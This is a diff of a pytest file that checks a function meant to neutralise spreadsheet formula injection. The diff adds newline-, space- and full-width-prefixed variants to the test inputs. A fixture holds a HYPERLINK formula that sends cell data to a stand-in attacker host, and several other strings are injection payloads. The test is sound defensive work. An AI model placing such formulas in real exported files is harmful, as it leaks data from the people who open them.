@@ -11,7 +11,8 @@ from import_candidates import write_report
 FORMULA = '=HYPERLINK("http://attacker.example/?d="&A1,"Voir")'
 
 
-@pytest.mark.parametrize("text", [FORMULA, "+33 6 12", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
+@pytest.mark.parametrize("text", [FORMULA, "+33 6 12", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1+1",
+                                  "\uff1dHYPERLINK(\"x\")", " \uff0b1"])
 def test_formula_cells_become_text(text):
     assert neutralise_formula(text) == f"'{text}"
 
